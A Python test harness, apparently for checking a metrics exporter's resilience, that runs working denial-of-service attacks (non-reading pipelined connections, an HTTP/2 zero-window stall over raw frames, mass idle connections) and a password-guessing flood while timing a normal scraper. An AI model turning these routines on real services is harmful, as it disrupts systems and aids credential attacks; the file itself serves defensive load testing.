#!/usr/bin/env python3
"""The attacks of issue 20 against a running exporter, with a well-behaved scraper beside them.

    attacks.py ATTACK URL SECONDS [--ca CA.pem] [--auth USER:PASSWORD]

ATTACK is one of: none, nonreaders, h2zero, idle, passwords. The attack runs in the background
while the scraper sends a gzip `GET /metrics` each second (10 s timeout, the right credentials
with --auth) for SECONDS; then one line is printed:

    <attack> scrapes=<n> ok=<n 200s> success=<percent> p50_ms=<..> p99_ms=<..> other=<status:count,...>

Standard library only (the HTTP/2 client is raw frames over ssl). Every socket is to the URL's
host; every thread stops when the scraper is done.
"""
import base64
import http.client
import socket
import ssl
import struct
import sys
import threading
import time
import urllib.parse

STOP = threading.Event()


def parse_args():
    attack, url, seconds = sys.argv[1], sys.argv[2], float(sys.argv[3])
    ca = auth = None
    rest = sys.argv[4:]
    while rest:
        flag, value, rest = rest[0], rest[1], rest[2:]
        if flag == "--ca":
            ca = value
        elif flag == "--auth":
            auth = value
    return attack, urllib.parse.urlsplit(url), seconds, ca, auth


def tls_context(ca, alpn):
    ctx = ssl.create_default_context(cafile=ca)
    ctx.check_hostname = False
    ctx.set_alpn_protocols(alpn)
    return ctx


def connect(url, ca, alpn=("http/1.1",), rcvbuf=None):
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    if rcvbuf:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
    sock.settimeout(10)
    sock.connect((url.hostname, url.port))
    if url.scheme == "https":
        sock = tls_context(ca, list(alpn)).wrap_socket(sock, server_hostname="localhost")
    return sock


def closed(sock):
    """Whether the server closed `sock`, told without reading the answer: a write fails."""
    try:
        sock.send(b"\r\n")
        return False
    except OSError:
        return True


def nonreader(url, ca):
    """GET /metrics (plain) four times pipelined, never read; reconnect when closed."""
    request = b"GET /metrics HTTP/1.1\r\nHost: x\r\n\r\n" * 4
    while not STOP.is_set():
        try:
            sock = connect(url, ca, rcvbuf=4096)
            sock.sendall(request)
            while not STOP.is_set() and not closed(sock):
                time.sleep(0.2)
            sock.close()
        except OSError:
            time.sleep(0.05)


def idle(url, ca):
    """A connection that sends nothing; reconnect as soon as it is closed."""
    while not STOP.is_set():
        try:
            sock = socket.create_connection((url.hostname, url.port), timeout=0.5)
            while not STOP.is_set():
                try:
                    if sock.recv(64) == b"":
                        break
                except socket.timeout:
                    continue
            sock.close()
        except OSError:
            time.sleep(0.05)


def hpack_literal(name, value):
    """A header field without indexing, plain (not Huffman) strings shorter than 127 bytes."""
    return bytes([0, len(name)]) + name + bytes([len(value)]) + value


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def h2zero(url, ca, streams=20):
    """HTTP/2 with SETTINGS_INITIAL_WINDOW_SIZE=0, `streams` GET /metrics, PINGs answered,
    no WINDOW_UPDATE ever; reconnect when closed."""
    while not STOP.is_set():
        try:
            sock = connect(url, ca, alpn=("h2",))
            sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, struct.pack(">HI", 4, 0)))
            block = (
                hpack_literal(b":method", b"GET")
                + hpack_literal(b":scheme", b"https")
                + hpack_literal(b":path", b"/metrics")
                + hpack_literal(b":authority", b"localhost")
            )
            for i in range(streams):
                sock.sendall(frame(1, 0x5, 1 + 2 * i, block))  # HEADERS, END_STREAM|END_HEADERS
            sock.settimeout(0.5)
            buf = b""
            while not STOP.is_set():
                try:
                    data = sock.recv(65536)
                except socket.timeout:
                    continue
                if not data:
                    break
                buf += data
                while len(buf) >= 9:
                    length = int.from_bytes(buf[:3], "big")
                    if len(buf) < 9 + length:
                        break
                    kind, flags = buf[3], buf[4]
                    payload = buf[9 : 9 + length]
                    buf = buf[9 + length :]
                    if kind == 4 and not flags & 1:  # SETTINGS: ACK
                        sock.sendall(frame(4, 1, 0))
                    elif kind == 6 and not flags & 1:  # PING: answer
                        sock.sendall(frame(6, 1, 0, payload))
                    elif kind == 7:  # GOAWAY
                        raise OSError("goaway")
            sock.close()
        except (OSError, ssl.SSLError):
            time.sleep(0.05)


def passwords(url, ca, n):
    """Wrong passwords as fast as the server answers, keep-alive."""
    header = {"Authorization": "Basic " + base64.b64encode(f"prometheus:guess-{n}".encode()).decode()}
    while not STOP.is_set():
        try:
            conn = client(url, ca)
            while not STOP.is_set():
                conn.request("GET", "/metrics", headers=header)
                conn.getresponse().read()
        except (OSError, http.client.HTTPException):
            time.sleep(0.01)


def client(url, ca):
    if url.scheme == "https":
        return http.client.HTTPSConnection(url.hostname, url.port, timeout=10, context=tls_context(ca, ["http/1.1"]))
    return http.client.HTTPConnection(url.hostname, url.port, timeout=10)


def scrape(url, ca, auth, seconds):
    headers = {"Accept-Encoding": "gzip"}
    if auth:
        headers["Authorization"] = "Basic " + base64.b64encode(auth.encode()).decode()
    statuses, times = [], []
    conn = None
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        start = time.monotonic()
        try:
            conn = conn or client(url, ca)
            conn.request("GET", "/metrics", headers=headers)
            resp = conn.getresponse()
            resp.read()
            statuses.append(resp.status)
            if resp.getheader("Connection", "").lower() == "close":
                conn.close()
                conn = None
        except (OSError, http.client.HTTPException) as e:
            statuses.append(type(e).__name__)
            if conn:
                conn.close()
            conn = None
        times.append((time.monotonic() - start) * 1000)
        time.sleep(max(0.0, 1.0 - (time.monotonic() - start)))
    return statuses, times


def main():
    attack, url, seconds, ca, auth = parse_args()
    workers = {
        "none": [],
        "nonreaders": [(nonreader, (url, ca))] * 40,
        "h2zero": [(h2zero, (url, ca))] * 12,
        "idle": [(idle, (url, ca))] * 600,
        "passwords": [(passwords, (url, ca, i)) for i in range(64)],
    }[attack]
    threads = [threading.Thread(target=f, args=a, daemon=True) for f, a in workers]
    for t in threads:
        t.start()
    time.sleep(2 if workers else 0)  # the attack takes hold
    statuses, times = scrape(url, ca, auth, seconds)
    STOP.set()
    ok = sum(1 for s in statuses if s == 200)
    other = {}
    for s in statuses:
        if s != 200:
            other[str(s)] = other.get(str(s), 0) + 1
    times.sort()
    pick = lambda q: times[min(len(times) - 1, int(q * len(times)))]
    print(
        f"{attack:<11} scrapes={len(statuses)} ok={ok} success={100 * ok / max(1, len(statuses)):.1f}% "
        f"p50_ms={pick(0.5):.1f} p99_ms={pick(0.99):.1f} other={','.join(f'{k}:{v}' for k, v in other.items()) or '-'}"
    )


if __name__ == "__main__":
    main()
